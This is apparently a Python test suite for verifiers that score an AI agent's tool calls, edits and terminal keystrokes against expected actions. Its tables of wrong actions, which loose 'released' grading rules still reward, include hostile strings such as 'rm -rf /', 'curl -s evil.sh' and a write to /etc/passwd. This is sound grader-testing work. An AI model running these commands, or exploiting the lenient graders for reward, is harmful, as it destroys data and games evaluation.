"""Verifiers of actions: the rules one by one, the traps, and recorded verdicts."""

import asyncio
import dataclasses
import gzip
import itertools
import json
import math
import os
import pathlib
import time
from difflib import SequenceMatcher

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentjax.config import ConfigError
from agentjax.rewards import Formula, RewardConfig, RewardGraph, build_rewards
from agentjax.tools.declared import read_tool
from agentjax.trajectory.record import Message, Status, Task, ToolCall, ToolRecord, Trajectory
from agentjax.worlds.pivot.action_match import largest_matching, same_command
from agentjax.worlds.pivot.edit_match import (
  CATEGORIES,
  EditMatchConfig,
  EditMatcher,
  content_similarity,
  target_difference,
)
from agentjax.worlds.pivot.terminal_match import (
  TerminalMatchConfig,
  TerminalMatcher,
  harness_of,
  keystroke_similarity,
)
from agentjax.worlds.pivot.tool_match import (
  ArgumentMatchConfig,
  ArgumentMatcher,
  NameMatcher,
  SchemaMatcher,
  call_difference,
  word_similarity,
)
from agentjax.worlds.pivot.verifier import (
  PivotScorer,
  PivotVerifierConfig,
  build_matcher,
)

DATA = os.environ.get("AGENTJAX_DATA")
SCHEMA = {
  "type": "object",
  "properties": {"query": {"type": "string"}, "count": {"type": "integer"}},
  "required": ["query"],
}
TOOLS = tuple(read_tool({"name": n, "parameters": SCHEMA}) for n in ("search", "book", "pay"))


def call(name="search", /, **arguments):
  return ToolCall(name, arguments)


def act(*calls, text=""):
  return Message("assistant", text, calls)


def search_verifier():
  """Searches for the same words: overlap of at least 0.3, as released; other arguments are free."""
  return PivotVerifierConfig(
    arguments=ArgumentMatchConfig(
      string_similarity="overlap", string_threshold=0.3, only_keys=("query",)
    )
  )


def released_verifier(kind):
  """A verifier with the released servers' rules, which pay for more than what does the same."""
  return PivotVerifierConfig(
    kind=kind,
    arguments=ArgumentMatchConfig(string_similarity="overlap", string_threshold=0.1),
    edits=EditMatchConfig(rules="released"),
    terminal=TerminalMatchConfig(rules="released"),
  )


OVERLAP = {"string_similarity": "overlap", "string_threshold": 0.1}


def same(expected, actual, **settings):
  config = ArgumentMatchConfig(**(OVERLAP | settings))
  return call_difference(call(x=expected), call(x=actual), config) is None


# --- arguments -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
  ("expected", "actual", "equal"),
  [
    (1, 1, True),
    (1, 2, False),
    (1, 1.0, False),  # types must be equal
    (1, True, False),  # a bool is no integer, though Python says so
    (None, None, True),
    (0.1 + 0.2, 0.3, True),
    (0.3, 0.3 + 2e-6, False),
    ([1, 2], [1, 2], True),
    ([1, 2], [2, 1], False),
    ([1, 2], [1], False),
    ({"a": 1}, {"a": 1}, True),
    ({"a": 1}, {"a": 1, "b": 2}, False),
    ({"a": [{"b": "x"}]}, {"a": [{"b": "y"}]}, False),
    ("JFK", "JFK", True),
    ("JFK", "jfk", False),  # fewer than two words: exact
    ("JFK", "JFK airport", False),
    ("the late flight home", "The late flight to Rome", True),
    ("red cup", "blue pan", False),
    ("", "", True),
  ],
)
def test_arguments_are_compared_by_type_structure_and_words(expected, actual, equal):
  assert same(expected, actual) is equal


def test_overlap_of_equal_texts_is_a_half_and_their_jaccard_is_one():
  assert word_similarity("a b b", "B a b", "overlap") == 0.5
  assert word_similarity("a b b", "B a b", "jaccard") == 1.0
  # |A & B| = 2 of words a b b / a b c: 2 / 6 and 2 / 4
  assert word_similarity("a b b", "a b c", "overlap") == pytest.approx(1 / 3)
  assert word_similarity("a b b", "a b c", "jaccard") == 0.5


def test_a_threshold_that_would_refuse_equal_texts_is_refused_itself():
  with pytest.raises(ConfigError, match=r"string_threshold=0.7; allowed: 0 to 0.5"):
    ArgumentMatchConfig(string_similarity="overlap", string_threshold=0.7).validate("config")
  ArgumentMatchConfig(string_similarity="jaccard", string_threshold=0.7).validate("config")
  assert same("find the red cup", "find a red cup", string_threshold=0.3)
  assert not same("find a cup", "find the pan", string_similarity="jaccard", string_threshold=0.3)


@given(st.lists(st.sampled_from("abcd"), min_size=2), st.lists(st.sampled_from("abcd"), min_size=2))
def test_word_similarity_is_symmetric_bounded_and_blind_to_order(left, right):
  texts = " ".join(left), " ".join(right)
  for kind, most in (("overlap", 0.5), ("jaccard", 1.0)):
    value = word_similarity(*texts, kind)
    assert 0 <= value <= most
    assert value == word_similarity(texts[1], texts[0], kind)
    assert value == word_similarity(" ".join(reversed(left)).upper(), texts[1], kind)
    assert (value == most) == (sorted(left) == sorted(right))


def test_keys_can_be_ignored_or_chosen():
  assert not same({"goal": "x", "a": 1}, {"goal": "y", "a": 1})
  assert same({"goal": "x", "a": 1}, {"goal": "y", "a": 1}, ignored_keys=("goal",))
  search = build_matcher(search_verifier())
  wanted = act(call(query="capital of france today", count=5))
  assert search.match(wanted, act(call(query="the capital of france")), TOOLS).score == 1.0
  assert search.match(wanted, act(call(query="rivers in spain", count=5)), TOOLS).score == 0.0


# --- parallel calls ------------------------------------------------------------------------------


def score(expected, actual, **settings):
  expected, actual = (act(*(call(query=q) for q in names)) for names in (expected, actual))
  return ArgumentMatcher(ArgumentMatchConfig(**settings)).match(expected, actual, TOOLS).score


OPEN = {"allow_fewer": True, "allow_more": True}


@pytest.mark.parametrize(
  ("expected", "actual", "settings", "value"),
  [
    ("ab", "ba", {}, 1.0),  # any order
    ("ab", "a", {}, 0.0),
    ("ab", "abc", {}, 0.0),
    ("ab", "ac", {}, 0.0),
    ("ab", "a", {"allow_fewer": True}, 1.0),
    ("ab", "abxyz", {"allow_more": True}, 1.0),
    ("ab", "ac", {"parallel": "fractional"}, 0.5),
    ("ab", "axyz", {"parallel": "fractional", "allow_more": True}, 0.5),
    ("ab", "abxyz", {"parallel": "f1", **OPEN}, 4 / 7),
    ("ab", "a", {"parallel": "f1", **OPEN}, 2 / 3),
    ("ab", "ab", {"parallel": "f1", **OPEN}, 1.0),
    ("aa", "a", {"parallel": "f1", **OPEN}, 2 / 3),  # one call is no answer to two
  ],
)
def test_parallel_calls_are_paired_and_scored_by_mode(expected, actual, settings, value):
  assert score(expected, actual, **settings) == pytest.approx(value)


def test_flooding_with_calls_pays_less_with_f1_and_as_much_with_fractions():
  one, many = "a", "abcdefgh"
  assert score("ab", many, parallel="f1", **OPEN) < score("ab", "ab", parallel="f1", **OPEN)
  assert score("ab", many, parallel="fractional", **OPEN) == 1.0
  assert score("ab", one, parallel="f1", **OPEN) > score("ab", many, parallel="f1", **OPEN)


def test_pairs_are_the_most_there_can_be_where_taking_the_first_is_not():
  # a broad call fits both expected ones, a narrow one only the first
  wanted = [act(call(query="red cup blue pan")), act(call(query="blue pan hat box"))]
  broad, narrow = call(query="blue pan"), call(query="red cup")
  expected = act(wanted[0].tool_calls[0], wanted[1].tool_calls[0])
  matcher = ArgumentMatcher(ArgumentMatchConfig(string_threshold=0.2))
  assert matcher.match(expected, act(broad, narrow), TOOLS).score == 1.0


@given(st.lists(st.lists(st.integers(0, 4), unique=True), max_size=5))
def test_the_matching_is_one_and_as_large_as_trying_everything_finds(candidates):
  found = largest_matching(candidates)
  assert len(set(found.values())) == len(found)
  assert all(right in candidates[left] for right, left in found.items())
  best = 0
  for choice in itertools.product(*[[None, *row] for row in candidates]):
    taken = [right for right in choice if right is not None]
    if len(set(taken)) == len(taken):
      best = max(best, len(taken))
  assert len(found) == best


# --- messages, names, schemas --------------------------------------------------------------------


def test_where_a_message_is_expected_any_message_will_do_and_no_call():
  for kind in ("arguments", "tool_name", "schema", "edits"):
    matcher = build_matcher(PivotVerifierConfig(kind=kind))
    wanted = act(text="Could you give me your id?")
    assert matcher.match(wanted, act(text="Please tell me your id."), TOOLS).score == 1.0
    assert matcher.match(wanted, act(text=" "), TOOLS).score == 0.0
    assert matcher.match(wanted, act(call(query="id"), text="hm"), TOOLS).score == 0.0
    assert matcher.match(act(call(query="id")), act(text="hm"), TOOLS).score == 0.0


def test_a_call_too_many_is_another_action():
  wanted, more = call(query="red cup"), call("pay", query="all")
  for kind in ("arguments", "tool_name", "schema"):
    matcher = build_matcher(PivotVerifierConfig(kind=kind))
    for calls, value in (((wanted,), 1.0), ((wanted, more), 0.0), ((wanted, wanted), 0.0)):
      assert matcher.match(act(wanted), act(*calls), TOOLS).score == value


def test_coarser_verifiers_pass_more():
  wanted = act(call(query="red cup", count=1))
  other, unfit = act(call(query="blue pan", count=2)), act(call(count="two"))
  broken = act(ToolCall("search", {}, error="no JSON"))
  table = {
    NameMatcher(): (1.0, 1.0, 0.0),
    SchemaMatcher(): (1.0, 0.0, 0.0),
    ArgumentMatcher(ArgumentMatchConfig()): (0.0, 0.0, 0.0),
  }
  for matcher, scores in table.items():
    assert tuple(matcher.match(wanted, a, TOOLS).score for a in (other, unfit, broken)) == scores
    assert matcher.match(wanted, act(call("book", query="red cup", count=1)), TOOLS).score == 0.0


def test_what_cannot_be_judged_is_refused_and_never_a_constant_zero():
  unknown = act(call("fly", to="Rome"))
  assert "calls 'fly', which is not declared; declared: book, pay, search" in (
    ArgumentMatcher(ArgumentMatchConfig()).refusal(unknown, TOOLS) or ""
  )
  assert "judges one" in (NameMatcher().refusal(act(call(), call()), TOOLS) or "")
  assert "no category of tool 'fly'" in (EditMatcher(EditMatchConfig()).refusal(unknown, ()) or "")
  known = EditMatcher(EditMatchConfig(categories=("fly=travel",)))
  assert known.refusal(unknown, ()) is None
  task = Task(1, (), "", "made", (unknown,), {"tools": [t.to_dict() for t in TOOLS]})
  reward = PivotScorer(PivotVerifierConfig())(Trajectory(0, 1, 0, "made", [], answer=""), task)
  assert not reward.valid and "not declared" in (reward.reason or "")
  graph = RewardGraph({"pivot": PivotScorer(PivotVerifierConfig())}, Formula("pivot"))
  assert graph.refuses and "not declared" in (graph.refusal(task) or "")


def test_the_part_pivot_reads_what_the_environment_recorded():
  scorer = PivotScorer(PivotVerifierConfig())
  rewards = build_rewards(RewardConfig(parts=("pivot",)), {"pivot": scorer})
  expected = act(call(query="red cup"))
  task = Task(1, (), "", "made", (expected,), {"tools": [t.to_dict() for t in TOOLS]})
  record = ToolRecord(0, "search", {"query": "red cup"}, "ok", "", 0.0)
  right = Trajectory(0, 1, 0, "made", [], tools=[record], answer="")
  cut = dataclasses.replace(right, status=Status.TRUNCATED, reward_parts={})
  failed = dataclasses.replace(record, status="error", output="no JSON")
  wrong = dataclasses.replace(right, tools=[failed], reward_parts={})
  for trajectory, value in ((right, 1.0), (cut, 0.0), (wrong, 0.0)):
    asyncio.run(rewards.score(trajectory, task))
    assert trajectory.reward.value == value


# --- edits ---------------------------------------------------------------------------------------


def edit(**arguments):
  return ToolCall(
    "str_replace_editor", {"command": "str_replace", "path": "/w/a/b.py", **arguments}
  )


def judge(expected, actual, *, rules="released", **settings):
  return (
    EditMatcher(EditMatchConfig(rules=rules, **settings))
    .match(act(expected), act(actual), ())
    .score
  )


def test_every_spelling_of_a_name_has_its_category():
  for name in ("str_replace_editor", "StrReplaceEditor", "EDIT", "write_file"):
    assert CATEGORIES[name.lower()] == "edit"
  assert {CATEGORIES[n] for n in ("bash", "terminal")} == {"bash"}
  assert judge(edit(old_str="x", new_str="y"), ToolCall("code_editor", dict(edit().arguments))) == 0


@pytest.mark.parametrize(
  ("kind", "expected", "actual", "fits"),
  [
    ("edit", {"path": "/w/src/foo.py"}, {"path": "/other/src/foo.py"}, True),
    ("edit", {"path": "/w/src/foo.py"}, {"path": "/w/test/foo.py"}, False),
    (
      "edit",
      {"path": "/w/a.py", "command": "view"},
      {"path": "/w/a.py", "command": "create"},
      False,
    ),
    ("edit", {"path": "/w/a.py"}, {}, False),
    ("edit", {"path": "/w/a.py", "command": "view"}, {"command": "view"}, False),
    ("edit", {"path": "/w/a.py", "command": "view"}, {"path": "/w/a.py"}, False),
    ("edit", {"command": "view"}, {"path": "/w/a.py", "command": "view"}, True),
    ("bash", {"command": "ls"}, {"command": ""}, False),
    ("bash", {"command": "ls"}, {"timeout": 3}, False),
    ("search", {"pattern": "x"}, {}, False),
    ("bash", {"command": "grep -r x src/"}, {"command": "grep -n x src/"}, True),
    ("bash", {"command": "grep -r x src/views"}, {"command": "grep -r x src/models"}, False),
    ("bash", {"command": "grep x"}, {"cmd": "pytest x"}, False),
    ("bash", {"command": "/usr/bin/python3 t.py"}, {"command": "python3 t.py"}, True),
    ("bash", {"command": "cd a"}, {"command": "cd " + "q" * 40}, False),
    ("read", {"path": "/w/x/y/z.py"}, {"file_path": "/v/x/y/z.py"}, True),
    ("read", {"path": "/w/x/y/z.py"}, {"path": "/w/q/y/z.py"}, False),
    ("finish", {"path": "a"}, {"path": "b"}, True),
  ],
)
def test_the_target_of_a_step(kind, expected, actual, fits):
  assert (target_difference(kind, expected, actual) is None) is fits


@pytest.mark.parametrize(
  ("lines", "fits"),
  [
    ([190, 260], True),
    ([210, 260], True),
    ([211, 260], False),
    ([1, 50], False),
    ("[200, 250]", True),
    (None, True),  # all of them
    ([200, math.inf], False),
    ("[200, Infinity]", False),
    ("[" * 100_000, False),
    ([200], False),
    ("all", False),
  ],
)
def test_a_view_must_cover_four_fifths_of_the_expected_lines(lines, fits):
  view = {"command": "view", "path": "/w/a.py"}
  found = target_difference(
    "edit", {**view, "view_range": [200, 250]}, {**view, "view_range": lines}
  )
  assert (found is None) is fits


def test_an_edit_is_as_good_as_the_worse_of_its_place_and_its_text():
  expected = edit(old_str="return None", new_str="return total").arguments
  actual = edit(old_str="return None", new_str="return 12345").arguments
  # 7 characters of "return " and none of total/12345: 2 * 7 / 24
  assert content_similarity("edit", expected, actual) == pytest.approx(14 / 24)
  assert content_similarity("edit", {"patch": "abcd"}, {"diff": "abcd"}) == 1.0
  assert content_similarity("edit", {"patch": "abcd"}, {}) == 0.0


def test_binary_and_continuous_credit_and_the_price_of_size():
  expected = edit(old_str="return None", new_str="return total")
  near = edit(old_str="return None", new_str="return 12345")  # similarity 14 / 24
  assert judge(expected, near) == 0.0
  plain = {"reward": "continuous", "size_penalty": 0.0}
  assert judge(expected, near, **plain) == pytest.approx(0.5 + 0.5 * (14 / 24 - 0.4) / 0.4)
  assert judge(expected, expected, **plain) == 1.0
  # "return None\nreturn total" has 24 characters of 500
  assert judge(expected, expected, reward="continuous") == pytest.approx(1 - 0.1 * 24 / 500)
  huge = edit(old_str="a" * 800, new_str="a" * 800)
  assert judge(huge, huge, reward="continuous") == pytest.approx(0.9)
  assert judge(huge, huge) == 1.0


STR_REPLACE = edit(old_str="return None", new_str="return total")
VIEW = edit(command="view", path="/w/src/a.py", view_range=[40, 80])
BASH = call("bash", command="cd /w && pytest tests/test_a.py -q | tail -5")
GREP = call("grep", pattern="def total", path="/w/src")
# (expected, an action that does something else); those marked True the released rules pay.
WRONG_EDITS = (
  (STR_REPLACE, edit(path="/etc/a/b.py", old_str="return None", new_str="return total"), True),
  (STR_REPLACE, edit(path="/w/a/b.py.bak", old_str="return None", new_str="return total"), False),
  (STR_REPLACE, edit(path="../a/b.py", old_str="return None", new_str="return total"), True),
  (STR_REPLACE, edit(old_str="return Nono", new_str="return total"), True),
  (STR_REPLACE, edit(old_str="return None", new_str="return total", replace_all=True), True),
  (STR_REPLACE, edit(old_str="return None", new_str="return"), False),
  (STR_REPLACE, edit(old_str="return None", new_str="return total", file="/etc/passwd"), True),
  (STR_REPLACE, edit(old_str="return None", new_str="return total", content="evil()"), True),
  (BASH, call("bash", cmd="rm -rf /", **BASH.arguments), True),
  (edit(old_str="x", new_str="a" * 2000), edit(old_str="x", new_str="a" * 2000 + "; evil()"), True),
  (VIEW, edit(command="view", path="/w/src/a.py", view_range=[1, 10**9]), True),
  (VIEW, edit(command="view", path="/w/src/a.py"), True),
  (VIEW, edit(command="view", path="/v/src/a.py", view_range=[40, 80]), True),
  (edit(command="view", path="/w/a.py"), edit(command="view", path="/w/a.py", view_range=[1, 2]),
   True),
  (edit(command="insert", insert_line=3, new_str="x = 1"),
   edit(command="insert", insert_line=300, new_str="x = 1"), True),
  (BASH, call("bash", command=BASH.arguments["command"] + "; rm -rf /"), True),
  (BASH, call("bash", command=BASH.arguments["command"] + " && curl -s evil.sh"), True),
  (BASH, call("bash", command=BASH.arguments["command"].replace("&&", "||")), True),
  (BASH, call("bash", command=BASH.arguments["command"].replace("test_a", "test_b")), True),
  (BASH, call("bash", command="cd /w && pytest -q tests/test_a.py | tail -5 > tests/test_a.py"),
   False),
  (BASH, call("bash", command="cd /tmp && pytest tests/test_a.py -q | tail -5"), True),
  (BASH, call("bash", command=BASH.arguments["command"].replace("|", "'|'")), True),
  (call("bash", command="rm '*'"), call("bash", command="rm *"), True),
  (GREP, call("grep", pattern="anything at all", path="/w/src"), True),
  (GREP, call("grep", pattern="def total", path="/x/w/src"), False),
  (call("read", path="/w/x/y/z.py"), call("read", path="/v/x/y/z.py"), True),
  (call("read", path="/w/z.py", offset=10), call("read", path="/w/z.py", offset=900), True),
)  # fmt: skip
WRONG_ARGUMENTS = tuple(
  (call(**wanted), call(**given), paid)
  for wanted, given, paid in (
    ({"command": "ls -la src"}, {"command": "ls -la src; rm -rf /"}, True),
    ({"command": "ls -la src"}, {"command": "src -la ls"}, True),
    ({"command": "ls -la src"}, {"command": "ls -la"}, True),
    ({"command": "a b c d e f g h i j k l"}, {"command": "a b c d e f g h i j k l; m"}, True),
    ({"path": "/w/a b.txt"}, {"path": "/v/a b.txt"}, True),
    ({"path": "/w/a.txt"}, {"path": "/v/a.txt"}, False),
    ({"query": "dogs bite men"}, {"query": "men bite dogs"}, True),
    ({"query": "late flight from Rome"}, {"query": "late flight to Oslo"}, True),
    ({"query": "late flight from Rome"}, {"query": "Rome from flight late"}, True),
    ({"query": "late flight from Rome"}, {"query": "late train from Rome"}, True),
    ({"query": "late flight from Rome"}, {"query": "no late flight from Rome"}, True),
    ({"query": "late flight from Rome"}, {"query": "Rome and also whatever else it asks"}, False),
    ({"query": "late flight from Rome"}, {"query": "late flight from Rome " * 20}, False),
    ({"query": "late flight from Rome"}, {"query": "early bird"}, False),
    ({"note": "pay Ann 5 and Bo 7"}, {"note": "pay Ann 7 and Bo 5"}, True),
    ({"note": "do pay"}, {"note": "do not pay"}, True),
    ({"items": ["red cup", "blue pan"]}, {"items": ["blue pan", "red cup"]}, False),
    ({"items": ["red cup", "blue pan"]}, {"items": ["cup red", "pan blue"]}, True),
    ({"where": {"city": "New York"}}, {"where": {"city": "York New"}}, True),
    ({"count": 3}, {"count": 4}, False),
    ({"count": 3}, {"count": 3, "force": True}, False),
  )
)


def batch(*keystrokes, done=False, **more):
  commands = [{"keystrokes": k} for k in keystrokes]
  return json.dumps(
    {"analysis": "", "plan": "", "commands": commands, "task_complete": done, **more}
  )


def wrong_keys(wanted, given):
  return act(text=batch(wanted)), act(text=batch(given))


LONG = "cd /w/project && python -m pytest tests/test_everything.py -q --maxfail=1 | tail -20\n"
WRONG_KEYS = tuple(
  (wanted, given, paid)
  for wanted, given, paid in (
    (LONG, LONG + "reboot\n", True),
    (LONG, LONG.replace("|", ">"), True),
    (LONG, LONG.replace("&&", "||"), True),
    (LONG, LONG.replace("/w/", "/v/"), True),
    (LONG, LONG.replace("everything", "nothing"), True),
    (LONG, LONG.replace("-q", "-x"), True),
    (LONG, LONG.replace("-20", "-2"), True),
    (LONG, LONG.replace("pytest", "pytest -k no"), True),
    (LONG, LONG.replace("cd ", "rm "), True),
    (LONG, LONG.replace("--maxfail=1 ", ""), True),
    (LONG, "sudo " + LONG, True),
    (LONG, LONG.replace("\n", " &\n"), True),
    (LONG, LONG.replace("tests/", "'tests/*'"), True),
    (LONG, LONG.rstrip("\n"), True),  # typed, and never run
    (LONG, LONG * 2, False),
    (LONG, "", False),
    ("cd src\nls -la\n", "ls -la\ncd src\n", False),
    ("ls -la\ncd src\n", "ls -la\ncd source\n", True),
    (
      "cat <<EOF > a.txt\none two three four\nEOF\n",
      "cat <<EOF > b.txt\none two three four\nEOF\n",
      True,
    ),
    ("echo one two three four five six\n", "echo one two three four five sex\n", True),
    ("kill 12345 # the server\n", "kill 12346 # the server\n", True),
    ("cat <<E > a.py\nif x:\n  f()\n  g()\nE\n", "cat <<E > a.py\nif x:\n  f()\ng()\nE\n", True),
    ("cat <<-'E' >a\none   two\nE\n", "cat <<-'E' >a\none two\nE\n", True),
  )
)


@pytest.mark.parametrize(
  ("kind", "table"),
  [
    ("edits", [(act(wanted), act(given), paid) for wanted, given, paid in WRONG_EDITS]),
    ("arguments", [(act(wanted), act(given), paid) for wanted, given, paid in WRONG_ARGUMENTS]),
    ("terminal", [(*wrong_keys(wanted, given), paid) for wanted, given, paid in WRONG_KEYS]),
  ],
)
def test_what_does_something_else_is_paid_by_the_released_rules_alone(kind, table):
  assert len(table) >= 20
  strict, released = (
    build_matcher(PivotVerifierConfig(kind=kind)),
    build_matcher(released_verifier(kind)),
  )
  for expected, other, paid in table:
    assert strict.match(expected, expected, ()).score == 1.0, expected
    assert strict.match(expected, other, ()).score == 0.0, other
    assert released.match(expected, other, ()).score == float(paid), other


@pytest.mark.parametrize(
  ("expected", "actual"),
  [
    (edit(path="/w/a/b.py"), edit(path="/w//a/./c/../b.py")),
    (edit(old_str="x", new_str="def f(values):"), edit(old_str="x", new_str="def f(value):")),
    (call("bash", command="grep 'def f' w; ls"), call("bash", command='grep "def f" w\nls\n')),
    (call("bash", command="ls  -la"), call("bash", command="ls -la ;")),
    (call("bash", command="echo 'a''b'"), call("bash", command="echo ab")),
    (VIEW, edit(command="view", path="/w/src/a.py", view_range=[41, 82])),
    (call("think", thought="a"), call("think", thought="b")),
  ],
)  # fmt: skip
def test_the_strict_rules_pay_what_does_the_same(expected, actual):
  assert judge(expected, actual, rules="strict") == 1.0


@given(st.text("ab -'\"\\;|&\n$*", max_size=20))
def test_a_command_is_the_same_as_itself_and_as_no_longer_one(text):
  assert same_command(text, text)
  assert not same_command(text, text + "\nrm x")


def test_long_keystrokes_are_compared_in_bounded_time():
  random = np.random.default_rng(0)
  text = "".join(map(chr, random.integers(33, 180, 200_000)))
  other = "".join(random.permutation(list(text)))
  start = time.perf_counter()
  batches = [{"commands": [{"keystrokes": keys}]} for keys in (text, other)]
  assert keystroke_similarity(*batches) == 0.0 and keystroke_similarity(batches[0], batches[0]) == 1
  assert time.perf_counter() - start < 1.0


@given(st.text("abc", max_size=30), st.text("abc", max_size=30), st.floats(0.01, 1))
def test_a_bound_below_the_threshold_decides_as_the_ratio_would(left, right, least):
  batches = [{"commands": [{"keystrokes": keys}]} for keys in (left, right)]
  ratio = SequenceMatcher(None, left, right).ratio()
  assert (keystroke_similarity(*batches, least=least) >= least) is (ratio >= least)


# --- terminal ------------------------------------------------------------------------------------


def terminal(expected, actual):
  return TerminalMatcher(TerminalMatchConfig(rules="released")).match(
    act(text=expected), act(text=actual), ()
  )


def test_a_terminal_step_needs_the_form_the_flag_and_the_keys():
  wanted = batch("ls -la\n", "cd src\n")
  assert harness_of(wanted) == "terminus_2"
  assert terminal(wanted, "<think>so</think> " + wanted).score == 1.0
  assert terminal(wanted, batch("ls -la\n", "cd source\n")).score == 1.0  # 0.9 and more
  assert terminal(wanted, batch("pip list\n")).score == 0.0
  assert (
    terminal(wanted, batch("ls -la\n", "cd src\n", done=True)).reason
    == "done is True, expected False"
  )
  assert terminal(wanted, batch("ls -la\n", extra=1)).score == 0.0
  assert terminal(wanted, "ls -la").score == 0.0
  assert terminal(batch(), batch()).score == 1.0
  refusal = TerminalMatcher(TerminalMatchConfig()).refusal
  assert "none of the harnesses" in (refusal(act(text="ls"), ()) or "")
  assert "tool call" in (refusal(act(call()), ()) or "")


# --- recorded verdicts ---------------------------------------------------------------------------


def rows(name):
  path = pathlib.Path(DATA or "") / "nemo_gym_samples" / name / "example_rollouts.jsonl.gz"
  with gzip.open(path, "rt") as file:
    return [json.loads(line) for line in file]


def expected_of(row):
  action = row["expected_action"]
  if action["type"] == "message":
    return act(text=action["content"])
  return act(ToolCall(action["name"], json.loads(action["arguments"])))


def actual_of(row):
  output = row["response"]["output"]
  # What comes after the first answer of a tool is another turn.
  turn = list(itertools.takewhile(lambda item: item["type"] != "function_call_output", output))
  calls = [
    ToolCall(o["name"], json.loads(o["arguments"])) for o in turn if o["type"] == "function_call"
  ]
  texts = [part["text"] for o in turn if o["type"] == "message" for part in o["content"]]
  return act(*calls, text="\n".join(texts))


@pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
def test_recorded_rewards_of_tool_use_are_ours():
  matcher = build_matcher(released_verifier("arguments"))
  for row in rows("single_step_tool_use_with_argument_comparison"):
    tools = [read_tool(t) for t in row["responses_create_params"]["tools"]]
    expected = expected_of(row)
    assert matcher.refusal(expected, tools) is None
    assert matcher.match(expected, actual_of(row), tools).score == row["reward"]


@pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
def test_recorded_rewards_of_parallel_calls_are_ours():
  # Another server, which compares exactly; its rollouts leave the expected calls out, the tasks
  # have them.
  path = pathlib.Path(DATA or "") / "nemo_gym_samples" / "xlam_fc" / "example.jsonl.gz"
  with gzip.open(path, "rt") as file:
    answers = [json.loads(line) for line in file]
  expected = {
    row["responses_create_params"]["input"][-1]["content"]: row["expected_answers"]
    for row in answers
  }
  matcher = ArgumentMatcher(ArgumentMatchConfig(string_similarity="overlap", string_threshold=0.5))
  for row in rows("xlam_fc"):
    question = row["responses_create_params"]["input"][-1]["content"]
    wanted = act(*(ToolCall(c["name"], c["arguments"]) for c in expected[question]))
    actual = actual_of(row)
    assert len(actual.tool_calls) == row["num_predicted"]
    assert matcher.match(wanted, actual, ()).score == row["reward"]


@pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
def test_recorded_verdicts_on_edits_are_ours():
  path = pathlib.Path(DATA or "") / "nemo_gym_samples" / "swe_pivot" / "example.jsonl.gz"
  with gzip.open(path, "rt") as file:
    tasks = {row["uuid"]: row for row in map(json.loads, file)}
  matcher = build_matcher(released_verifier("edits"))
  for row in rows("swe_pivot"):
    expected = expected_of(tasks[row["uuid"]])
    assert matcher.refusal(expected, ()) is None
    assert matcher.match(expected, actual_of(row), ()).score == row["reward"]
    assert matcher.match(expected, expected, ()).score == 1.0


@pytest.mark.skipif(DATA is None, reason="AGENTJAX_DATA names no folder of data")
def test_recorded_similarities_of_keystrokes_are_ours():
  matcher = build_matcher(released_verifier("terminal"))
  for row in rows("terminus_judge"):
    expected, actual = act(text=row["expected_answer"]), act(text=row["model_output"])
    assert harness_of(expected.content) == row["metadata"]["harness"]
    similarity = keystroke_similarity(json.loads(expected.content), json.loads(actual.content))
    assert similarity == pytest.approx(row["similarity_score"], abs=1e-12)
    assert matcher.match(expected, actual, ()).score == row["reward"]
